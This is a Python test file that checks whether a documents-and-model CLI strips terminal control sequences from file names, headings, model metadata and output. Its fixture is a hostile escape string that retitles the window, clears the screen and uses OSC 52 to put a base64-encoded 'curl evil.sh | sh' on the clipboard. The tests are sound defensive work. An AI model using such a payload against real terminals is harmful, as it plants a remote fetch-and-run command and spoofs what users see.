"""Nothing a file, a model or a server wrote reaches the terminal as a control sequence
(issue #38, item 4). A Markdown heading with ``ESC]0;…BEL`` (retitle the window),
``ESC]52;c;…BEL`` (put ``curl evil.sh | sh`` on the clipboard) and ``ESC[2J`` (clear the
screen), in a file whose very name carries an escape, went through ``docs add``,
``docs search``, ``docs list`` and ``ask`` as they were."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from cli.main import SafeStream
from guard.text import printable
from inference.modelinfo import read_info
from storage.documents.reading import Section
from tests.app.test_cli_documents import hearth
from tests.inference.gguf_builder import build

pytestmark = [pytest.mark.model, pytest.mark.e2e]
CLIPBOARD = base64.b64encode(b"curl evil.sh | sh").decode()
HOSTILE = f"\x1b]0;pwned\x07\x1b]52;c;{CLIPBOARD}\x07\x1b[2J\x9b31m\u202e"
ALLOWED = {"\n", "\t", "\r"}


def controls(text: str) -> list[str]:
    return [c for c in text if (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c == "\u202e") and c not in ALLOWED]


def test_no_command_prints_a_control_sequence_from_a_file(data_dir: Path, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / f"notes{HOSTILE}.md").write_text(
        f"# Mooring fees{HOSTILE}\n\nThe mooring fee is 12 euros per meter per day{HOSTILE}.\n", encoding="utf-8")
    runs = [hearth(data_dir, "docs", "add", "work", str(folder)),
            hearth(data_dir, "docs", "search", "work", "What is the mooring fee?"),
            hearth(data_dir, "docs", "search", "work", "What is the mooring fee?", "--json"),
            hearth(data_dir, "docs", "list"),
            hearth(data_dir, "ask", "work", "What is the mooring fee?", "--max-tokens", "8")]
    for run in runs:
        assert run.returncode == 0, run.stderr
        assert controls(run.stdout) == [] and controls(run.stderr) == [], run.args
    assert "Mooring fees]0;pwned]52;c;" in runs[1].stdout  # the text stays, harmless
    assert "notes]0;pwned" in runs[3].stdout


def test_headings_and_model_names_lose_their_controls_when_read(tmp_path: Path) -> None:
    assert Section("text", heading=f"Fees{HOSTILE}\nand more").heading == "Fees]0;pwned]52;c;" \
        + CLIPBOARD + "[2J31m and more"
    model = tmp_path / "hostile.gguf"
    model.write_bytes(build({"general.name": f"Friendly{HOSTILE} model"}))
    assert controls(read_info(model).name) == [] and read_info(model).name.startswith("Friendly]0;pwned")


def test_the_stream_filter_keeps_line_breaks_tabs_and_the_progress_lines_return(capsys) -> None:
    import sys

    stream = SafeStream(sys.stdout)
    assert stream.write(f"a\tb\r{HOSTILE}c\n") == len(f"a\tb\r{HOSTILE}c\n")
    stream.flush()
    assert capsys.readouterr().out == "a\tb\r]0;pwned]52;c;" + CLIPBOARD + "[2J31mc\n"
    assert printable("x\u2066y\u200fz\x00") == "xyz"
